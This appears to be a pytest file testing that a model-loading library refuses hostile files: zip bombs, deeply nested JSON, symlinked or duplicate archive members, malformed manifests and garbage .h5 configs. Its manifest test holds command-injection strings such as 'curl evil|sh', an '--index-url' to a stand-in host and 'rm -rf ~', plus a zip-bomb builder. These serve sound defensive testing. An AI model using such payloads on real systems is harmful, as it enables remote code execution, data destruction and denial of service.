"""Specific hostile model files: each one is refused with a one-line LayerHubError.

Deep nesting, zip bombs, duplicate or disguised archive members, bytes that are not UTF-8 or JSON
that is not an object, manifests of the wrong shape or with shell in them, garbage in a Keras 2
``.h5`` file, symlinked paths, unknown registered names and a custom loss that is not available.
"""

from __future__ import annotations

import json
import re
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import _hardening as H
import h5py
import numpy as np
import pytest
from packaging.utils import canonicalize_name
from packaging.version import Version

import layerhub
from layerhub import LayerHubError, MissingPluginError, ModelFileError
from layerhub.testing import run_in_fresh_interpreter

DEPTH = 100_000
BOMB_SIZE = 200 * 2**20  # decompressed; ~200 KB compressed


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A Scale model saved once: its path, members, config and metadata."""
    path = layerhub.save_model(H.scale_model(), tmp_path_factory.mktemp("good") / "good.keras")
    members = H.read_members(path)
    comment = H.read_comment(path)
    return {
        "path": path,
        "members": members,
        "comment": comment,  # where the manifest is
        "config": json.loads(members["config.json"]),
        "manifest": H.manifest_of(members, comment),
    }


def refused(path: Path, kind: type[LayerHubError] = ModelFileError) -> Any:
    """``load_model(path)`` raises ``kind`` with a one-line message; returns the error."""
    with pytest.raises(Exception) as caught:  # noqa: PT011 - the type is checked below
        layerhub.load_model(path)
    message = H.assert_one_line(caught.value)
    assert isinstance(caught.value, kind), f"{type(caught.value).__name__}: {message}"
    return caught.value


# Deep nesting -----------------------------------------------------------------------------------


def nested_list(depth: int) -> str:
    return "[" * depth + "]" * depth


def nested_dict(depth: int) -> str:
    return '{"a":' * depth + "0" + "}" * depth


@pytest.mark.parametrize("nesting", [nested_list, nested_dict], ids=["list", "dict"])
@pytest.mark.parametrize("where", ["top", "inside"])
def test_deeply_nested_config(
    tmp_path: Path, good: dict[str, Any], nesting: Callable[[int], str], where: str
) -> None:
    if where == "top":
        text = nesting(DEPTH)
    else:  # a valid model whose first layer config carries the nesting
        text = json.dumps(good["config"]).replace(
            '"config": {', f'"config": {{"deep": {nesting(DEPTH)}, ', 1
        )
    path = tmp_path / "deep.keras"
    H.write_members(path, {**good["members"], "config.json": text.encode()}, good["comment"])
    refused(path)


def test_huge_integer_literal(tmp_path: Path, good: dict[str, Any]) -> None:
    # Beyond Python's int string-conversion limit: json.loads raises ValueError on it.
    text = json.dumps(good["config"]).replace(
        '"config": {', '"config": {"n": %s, ' % ("9" * 50_000), 1
    )
    path = tmp_path / "int.keras"
    H.write_members(path, {**good["members"], "config.json": text.encode()}, good["comment"])
    refused(path)


# Zip bombs --------------------------------------------------------------------------------------

BOMB_LOADER = """
import json, sys, tracemalloc
from pathlib import Path
import layerhub

def reset_peak_rss():
    try:  # Linux: "5" resets the peak resident set size (VmHWM) of this process
        Path("/proc/self/clear_refs").write_text("5")
        return True
    except OSError:
        return False

def peak_rss():
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    return 0

def rss():
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    return 0

layerhub.load_model(sys.argv[1])  # warm up: keras, the backend, the plugin, one model
outcomes = {}
for bomb in sys.argv[2:]:
    tracemalloc.start()
    rss_reset = reset_peak_rss()
    before = rss()
    try:
        layerhub.load_model(bomb)
        outcome = {"raised": None}
    except Exception as error:
        outcome = {
            "raised": type(error).__name__,
            "model_file": isinstance(error, layerhub.ModelFileError),
            "message": str(error)[:2000],
        }
    outcome["python_peak"] = tracemalloc.get_traced_memory()[1]
    outcome["rss_growth"] = peak_rss() - before if rss_reset else 0
    tracemalloc.stop()
    outcomes[bomb] = outcome
print(json.dumps(outcomes))
"""


def write_bomb(path: Path, members: dict[str, bytes], member: str, comment: bytes) -> None:
    """``member`` is its valid JSON followed by 200 MB of spaces (still valid JSON)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.comment = comment
        for name, data in members.items():
            if name != member:
                zf.writestr(name, data)
                continue
            with zf.open(name, "w", force_zip64=True) as stream:
                stream.write(data)
                chunk = b" " * 2**22
                for _ in range(BOMB_SIZE // len(chunk)):
                    stream.write(chunk)


BOMB_MEMBERS = ["config.json", "metadata.json"]


@pytest.fixture(scope="module")
def bomb_outcomes(
    tmp_path_factory: pytest.TempPathFactory, good: dict[str, Any]
) -> dict[str, dict[str, Any]]:
    """Each bomb loaded in one fresh interpreter: what it raised and how much memory it took."""
    directory = tmp_path_factory.mktemp("bombs")
    paths = {}
    for member in BOMB_MEMBERS:
        paths[member] = directory / f"bomb-{member}.keras"
        write_bomb(paths[member], good["members"], member, good["comment"])
        assert paths[member].stat().st_size < 2 * 2**20
    out = run_in_fresh_interpreter(
        BOMB_LOADER, str(good["path"]), *(str(p) for p in paths.values())
    )
    outcomes = json.loads(out.stdout.strip().splitlines()[-1])
    return {member: outcomes[str(path)] for member, path in paths.items()}


@pytest.mark.slow
@pytest.mark.parametrize("member", BOMB_MEMBERS)
def test_zip_bomb_is_refused_before_it_is_read(
    bomb_outcomes: dict[str, dict[str, Any]], member: str
) -> None:
    outcome = bomb_outcomes[member]
    growth_mb = max(outcome["python_peak"], outcome["rss_growth"]) / 2**20
    assert outcome["raised"] is not None, f"the bomb loaded (memory grew {growth_mb:.0f} MB)"
    assert outcome["model_file"], f"{outcome['raised']}: {outcome['message']}"
    assert "\n" not in outcome["message"]
    assert len(outcome["message"]) <= H.MAX_MESSAGE
    assert growth_mb < 50, f"memory grew {growth_mb:.0f} MB: {outcome['message']}"


# Archive members --------------------------------------------------------------------------------


def test_duplicate_config_members(tmp_path: Path, good: dict[str, Any]) -> None:
    # Both copies are valid models (the second Dense has another activation): which one is the
    # model? A loader must not pick one silently.
    other = json.dumps(good["config"]).replace('"activation": "linear"', '"activation": "relu"')
    other = other.encode()
    assert other != good["members"]["config.json"]
    path = tmp_path / "dup.keras"
    members = [(n, d) for n, d in good["members"].items()] + [("config.json", other)]
    with pytest.warns(UserWarning, match="Duplicate name"):
        H.write_members(path, members, good["comment"])
    refused(path)


def test_config_that_is_not_utf8(tmp_path: Path, good: dict[str, Any]) -> None:
    data = good["members"]["config.json"].replace(b'"name": "', b'"name": "\xff\xfe\xc3(', 1)
    path = tmp_path / "latin.keras"
    H.write_members(path, {**good["members"], "config.json": data}, good["comment"])
    refused(path)


@pytest.mark.parametrize("text", ["[1, 2, 3]", "42", "null", '"config"', "true", "{}", ""])
def test_config_that_is_not_an_object(tmp_path: Path, good: dict[str, Any], text: str) -> None:
    path = tmp_path / "notobj.keras"
    H.write_members(path, {**good["members"], "config.json": text.encode()}, good["comment"])
    refused(path)


def test_config_stored_as_a_directory_entry(tmp_path: Path, good: dict[str, Any]) -> None:
    path = tmp_path / "dir.keras"
    members = [(n if n != "config.json" else "config.json/", d) for n, d in good["members"].items()]
    H.write_members(path, [(n, b"" if n.endswith("/") else d) for n, d in members], good["comment"])
    refused(path)


@pytest.mark.parametrize("body", ["path", "json"])
def test_config_stored_as_a_symlink_member(tmp_path: Path, good: dict[str, Any], body: str) -> None:
    # A symlink member's data is its target; a loader must not treat it as the config, whether
    # the target is a path elsewhere or a string that happens to be valid JSON.
    real = tmp_path / "real-config.json"
    real.write_bytes(good["members"]["config.json"])
    path = tmp_path / "link.keras"
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in good["members"].items():
            if name != "config.json":
                zf.writestr(name, data)
                continue
            info = zipfile.ZipInfo("config.json")
            info.create_system = 3  # unix
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, str(real).encode() if body == "path" else data)
        zf.comment = good["comment"]
    refused(path)


def test_path_is_a_dangling_symlink(tmp_path: Path) -> None:
    link = tmp_path / "dangling.keras"
    link.symlink_to(tmp_path / "nowhere.keras")
    refused(link)


def test_path_is_a_symlink_to_a_directory(tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    link = tmp_path / "folder.keras"
    link.symlink_to(tmp_path / "folder", target_is_directory=True)
    refused(link)


# Manifests --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "manifest",
    [
        {"format": 1, "objects": ["layerhub_scale>Scale"]},
        {
            "format": 1,
            "objects": {"layerhub_scale>Scale": {"distribution": "layerhub-scale", "version": 1.0}},
        },
        {"format": 1, "objects": {"layerhub_scale>Scale": {"distribution": 7, "version": [1]}}},
        {"format": 1, "objects": {"layerhub_scale>Scale": "layerhub-scale==0.1.0"}},
        {"format": "one", "objects": None},
        "layerhub",
        [],
        None,
    ],
    ids=[
        "objects-list",
        "version-number",
        "wrong-types",
        "entry-string",
        "format-string",
        "manifest-string",
        "manifest-list",
        "manifest-null",
    ],
)
@pytest.mark.parametrize("place", H.MANIFEST_PLACES)
def test_manifest_with_wrong_types_is_advisory(
    tmp_path: Path, good: dict[str, Any], manifest: Any, place: str
) -> None:
    path = tmp_path / "manifest.keras"
    H.write_members(path, *H.with_manifest(good["members"], manifest, place))
    try:
        model = layerhub.load_model(path)
    except Exception as error:  # refusing is allowed; a stray TypeError is not
        H.assert_one_line(error)
    else:
        x = np.ones((1, 3, 4), "float32")
        assert model.predict(x, verbose=0).shape == (1, 3, 2)


def absent_plugin_file(
    tmp_path: Path, good: dict[str, Any], distribution: Any, version: Any, place: str
) -> Path:
    """The good file, needing ``layerhub_absent>Foo``, whose manifest claims this requirement."""
    registered = "layerhub_scale>Scale"
    config = good["members"]["config.json"].decode().replace(registered, "layerhub_absent>Foo")
    manifest = json.loads(json.dumps(good["manifest"]))
    manifest["objects"] = {
        "layerhub_absent>Foo": {"distribution": distribution, "version": version}
    }
    members = {**good["members"], "config.json": config.encode()}
    path = tmp_path / "absent.keras"
    H.write_members(path, *H.with_manifest(members, manifest, place))
    return path


def valid_pip_command(command: str) -> bool:
    if not re.fullmatch(r"pip install( \S+)+", command):
        return False
    for requirement in command.removeprefix("pip install ").split(" "):
        name, sep, version = requirement.partition("==")
        try:
            canonicalize_name(name, validate=True)
            if sep and str(Version(version)) != version:
                return False
        except ValueError:
            return False
        if name.startswith("-"):
            return False
    return True


@pytest.mark.parametrize(
    ("distribution", "version"),
    [
        ("layerhub-x; curl evil|sh", "1.0"),
        ("--index-url=http://evil/ layerhub-x", "1.0"),
        ("layerhub-absent\nrm -rf ~", "1.0"),
        ("layerhub-evil", "1.0"),
        ("layerhub-absent", "1.0 && rm -rf ~"),
        ("layerhub-absent", "1.0\nrm -rf ~"),
        ("layerhub-absent", "1.0\n"),
        ("layerhub-absent", "--pre"),
    ],
)
@pytest.mark.parametrize("place", H.MANIFEST_PLACES)
def test_manifest_claims_are_never_offered_as_commands(
    tmp_path: Path, good: dict[str, Any], distribution: str, version: str, place: str
) -> None:
    path = absent_plugin_file(tmp_path, good, distribution, version, place)
    error = refused(path, MissingPluginError)
    message = str(error)
    assert "layerhub_absent>Foo" in message
    if error.pip_command is not None:
        assert valid_pip_command(error.pip_command), error.pip_command
    if distribution != "layerhub-absent":  # the file's claim is not the plugin's distribution
        assert f"pip install {distribution}" not in message
        assert "suspicious" in message.lower(), message
        assert "layerhub-absent" in message, message
        assert error.pip_command in (None, "pip install layerhub-absent"), error.pip_command
    else:  # the distribution is fine, the version is not: never pinned to it
        assert f"=={version}" not in message
        allowed = [None, "pip install layerhub-absent"]
        if version.strip() == "1.0":  # packaging accepts "1.0\n" as 1.0
            allowed.append("pip install layerhub-absent==1.0")
        assert error.pip_command in allowed, error.pip_command


@pytest.mark.parametrize("place", H.MANIFEST_PLACES)
def test_valid_manifest_claim_gives_the_pip_line(
    tmp_path: Path, good: dict[str, Any], place: str
) -> None:
    path = absent_plugin_file(tmp_path, good, "layerhub-absent", "1.2.0", place)
    error = refused(path, MissingPluginError)
    assert error.pip_command == "pip install layerhub-absent==1.2.0"
    assert "suspicious" not in str(error).lower()


# Names that no installed plugin provides ----------------------------------------------------


def test_unknown_registered_name_is_never_imported(
    tmp_path: Path, good: dict[str, Any], site: Path
) -> None:
    marker = H.write_evil_package(site)
    text = good["members"]["config.json"].decode()
    text = text.replace("layerhub_scale>Scale", "evil_mod>Boom")
    text = text.replace('"module": "layerhub_scale', '"module": "evil_mod', 1)
    assert '"module": "evil_mod' in text
    path = tmp_path / "evil.keras"
    H.write_members(path, {**good["members"], "config.json": text.encode()}, good["comment"])
    try:
        message = str(refused(path, MissingPluginError))
        assert "evil_mod>Boom" in message
        assert "custom_objects" in message
    finally:
        H.assert_evil_not_imported(marker)


USER_LOSS_SAVER = """
import sys
import keras
import layerhub
from layerhub_scale import Scale

@keras.saving.register_keras_serializable(package="my_project", name="my_loss")
def my_loss(y_true, y_pred):
    return keras.ops.mean(keras.ops.square(y_true - y_pred))

inputs = keras.Input((3,))
model = keras.Model(inputs, keras.layers.Dense(1)(Scale()(inputs)))
model.compile(optimizer="adam", loss=my_loss)
layerhub.save_model(model, sys.argv[1])
"""


@pytest.mark.slow
def test_users_own_loss_not_available(tmp_path: Path) -> None:
    path = tmp_path / "loss.keras"
    run_in_fresh_interpreter(USER_LOSS_SAVER, str(path))
    with zipfile.ZipFile(path) as zf:
        assert "my_project>my_loss" in zf.read("config.json").decode()
    message = str(refused(path, LayerHubError))
    assert "my_project>my_loss" in message
    assert "compile=False" in message
    assert "custom_objects" in message
    assert layerhub.load_model(path, compile=False).predict(np.ones((1, 3)), verbose=0).shape == (
        1,
        1,
    )


# Keras 2 .h5 files ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "this is not json {",
        "[1, 2, 3]",
        "null",
        '{"no": "class_name"}',
        nested_list(DEPTH),
        f'{{"class_name": "Functional", "config": {nested_dict(DEPTH)}}}',
        b"\xff\xfe{not utf-8",
    ],
    ids=["not-json", "list", "null", "no-class", "deep-list", "deep-dict", "not-utf8"],
)
def test_h5_with_garbage_model_config(tmp_path: Path, value: Any) -> None:
    path = tmp_path / "garbage.h5"
    with h5py.File(path, "w", libver="latest") as h5:  # dense attribute storage: > 64 KB values
        h5.attrs["model_config"] = np.bytes_(value) if isinstance(value, bytes) else value
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
    refused(path)
